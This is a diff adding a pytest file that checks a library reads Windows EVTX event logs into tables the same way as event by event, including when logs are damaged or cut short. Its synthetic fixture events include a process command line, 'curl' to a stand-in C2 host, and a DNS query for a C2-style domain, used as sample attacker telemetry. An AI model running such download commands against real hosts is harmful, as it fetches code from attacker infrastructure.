@@ -1,0 +1,135 @@
+"""Event logs as tables: the same as event by event, also where they are damaged."""
+
+from __future__ import annotations
+
+import random
+from pathlib import Path
+
+import pyarrow as pa
+import pytest
+
+from lamsach.errors import UnreadableError
+from lamsach.logs.bulk import evtx
+from lamsach.logs.evtx_chunks import CHUNK_BYTES, RECORDS_START, with_sound_tables, without_tables
+
+from .evtx_builder import Tree, chunk, event, file
+from .whole_logs import at_once, by_line
+
+SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"
+
+
+def _some(chance: random.Random) -> Tree:
+    second = f"2026-06-10T08:00:{chance.randrange(60):02d}.{chance.randrange(10**6):06d}Z"
+    computer = chance.choice(["PC-AN", "PC-MINH"])
+    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", 'a"b', "-"])
+    kind = chance.randrange(6)
+    if kind == 0:
+        ends = {
+            "SourceIp": "10.1.1.5",
+            "SourcePort": "5000",
+            "DestinationIp": "203.0.113.9",
+            "DestinationPort": "443",
+        }
+        return event(
+            3,
+            {"User": user, "Initiated": chance.choice(["true", "false"]), **ends},
+            computer=computer,
+            time=second,
+        )
+    if kind == 1:
+        return event(7, {"Hashes": f"SHA256={'ab' * 32}", "User": user}, computer=computer, time=second)
+    if kind == 2:
+        return event(
+            1, {"CommandLine": "curl http://c2.bad.example/a", "User": user}, computer=computer, time=second
+        )
+    if kind == 3:
+        return event(
+            5,
+            {"User": user},
+            computer=computer,
+            time=chance.choice([second, "2026-06-10T08:00:61.000000Z", "2026", second]),
+        )
+    if kind == 4:
+        return event(
+            5,
+            {"User": user, "User2": "EventData"},
+            computer=computer,
+            provider=chance.choice(["Other", "Microsoft-Windows-Sysmon"]),
+            time=second,
+        )
+    return event(22, {"QueryName": "bot-c2.xyz", "User": user}, computer=computer, time=second)  # fmt: skip
+
+
+def _log(seed: int, chunks: int = 5) -> bytes:
+    chance = random.Random(seed)
+    return file(*(chunk([_some(chance) for _ in range(30)]) for _ in range(chunks)))
+
+
+def test_what_was_made_before_is_not_made_again(tmp_path: Path) -> None:
+    path = tmp_path / "a.evtx"
+    path.write_bytes(file(*(chunk([event(5, {"User": "UNIT\\an"})] * 50) for _ in range(4))))
+    assert at_once(path) == by_line(path)
+    assert at_once(path)[0].num_rows == 200
+
+
+@pytest.mark.parametrize("seed", range(6))
+@pytest.mark.parametrize("rows", [1, 40, 8192])
+def test_the_same_as_event_by_event(
+    seed: int, rows: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(evtx, "_TABLE_ROWS", rows)
+    monkeypatch.setattr(evtx, "_BATCH_CHUNKS", 1 + seed % 3)
+    path = tmp_path / "a.evtx"
+    path.write_bytes(_log(seed))
+    (table, refused, counts), (expected, others, other_counts) = at_once(path), by_line(path)
+    assert table == expected
+    assert counts == other_counts
+    assert [(one.reference, one.reason) for one in refused] == [(one.reference, one.reason) for one in others]
+
+
+@pytest.mark.parametrize("seed", range(8))
+def test_damage_costs_no_more_than_event_by_event(seed: int, tmp_path: Path) -> None:
+    chance = random.Random(seed)
+    data = bytearray(_log(seed))
+    for _ in range(4):
+        place = chance.randrange(4096, len(data))
+        data[place : place + 9] = chance.randbytes(9)
+    path = tmp_path / "a.evtx"
+    path.write_bytes(bytes(data))
+    (table, refused, counts), (expected, others, other_counts) = at_once(path), by_line(path)
+    assert table == expected
+    assert counts == other_counts
+    assert [one.reference for one in refused] == [one.reference for one in others]
+
+
+def test_a_log_that_is_cut_short_gives_what_came_before(tmp_path: Path) -> None:
+    path = tmp_path / "a.evtx"
+    path.write_bytes(_log(1)[: 4096 + 3 * CHUNK_BYTES + 9000])
+    from lamsach.logs.tables import read_tables
+
+    from .builders import logs
+
+    (log,), _ = logs(path)
+    found: list[pa.RecordBatch] = []
+    with pytest.raises(UnreadableError):
+        found.extend(read_tables(log))
+    assert sum(table.num_rows for table in found) > 80
+
+
+def test_tables_that_lead_in_a_circle_are_left_out() -> None:
+    data = bytearray(chunk([event(5, {})]))
+    place = RECORDS_START + 100
+    data[128:132] = place.to_bytes(4, "little")
+    data[place : place + 4] = (0).to_bytes(4, "little")
+    assert with_sound_tables(bytes(data)) == bytes(data)
+    for following in (place, place + 8, CHUNK_BYTES):
+        data[place : place + 4] = following.to_bytes(4, "little")
+        assert with_sound_tables(bytes(data)) == without_tables(bytes(data))
+    data[128:132] = (CHUNK_BYTES - 2).to_bytes(4, "little")
+    assert with_sound_tables(bytes(data)) == without_tables(bytes(data))
+
+
+@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not there")
+def test_samples() -> None:
+    for path in sorted(SAMPLES.glob("*.evtx")):
+        assert at_once(path) == by_line(path), path.name
